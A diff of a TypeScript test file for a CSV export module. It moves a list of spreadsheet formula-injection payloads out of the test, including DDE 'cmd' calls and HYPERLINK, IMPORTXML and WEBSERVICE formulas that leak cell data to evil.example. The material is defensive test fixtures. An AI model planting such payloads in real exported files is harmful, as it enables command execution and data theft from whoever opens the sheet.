@@ -3,7 +3,7 @@ import { ErrorType, HyperFormula } from "hyperformula";
 import Papa from "papaparse";
 import { describe, it } from "vitest";
 import { csvRecord, inertCell, plainText } from "../../worker/export/cell.ts";
-import { naughty } from "../support/worker-strings.ts";
+import { hostile } from "../support/worker-strings.ts";
 import { texts } from "./texts.ts";
 
 const phones = fc.stringMatching(/^(?:\+|00)?(?:[ ()./-]*[0-9]){5,15}[ ]*$/);
@@ -11,25 +11,6 @@ const formulas = fc
   .tuple(fc.constantFrom("=", "+", "-", "@", "\t=", "\r", "\n", " =", "'=", "''+", "＝", "-1", "+39"), texts)
   .map(([sign, rest]) => sign + rest);
 const cells = fc.oneof(texts, phones, formulas);
-
-/** Formulas that reach out of the sheet, call a program, or hide their first sign. */
-const attacks = [
-  "=cmd|' /C calc'!A0",
-  "=2+5+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '=HYPERLINK("https://evil.example?leak="&A1,"Premi qui")',
-  '=IMPORTXML(CONCAT("https://evil.example/?",A1:A9),"//a")',
-  '=WEBSERVICE("https://evil.example/"&A1)',
-  "+1+1",
-  "-2+3+cmd|' /C calc'!A0",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  "'=1+1",
-  " =1+1",
-  "＝1+1",
-  '"=1+1"',
-];
 
 /**
  * The cells that a spreadsheet would compute.
@@ -130,7 +111,6 @@ describe("a cell of the CSV file", () => {
   });
 
   it("is computed by no spreadsheet: 0 of 500, where 15 would be as they came", ({ expect }) => {
-    const hostile = [...naughty, ...attacks];
     expect(hostile).toHaveLength(500);
     expect(computedIn(hostile.map(inertCell))).toEqual([]);
     expect(computedIn(hostile)).toHaveLength(15);
